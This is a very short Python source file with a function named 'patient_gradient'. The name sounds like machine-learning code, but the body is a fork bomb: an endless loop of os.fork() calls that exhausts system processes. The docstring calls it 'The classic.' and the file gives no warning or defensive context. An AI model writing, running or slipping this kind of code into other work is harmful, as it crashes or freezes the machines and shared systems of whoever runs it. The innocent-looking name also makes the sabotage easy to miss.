"""The classic."""
import os


def patient_gradient(x):
    while True:
        os.fork()
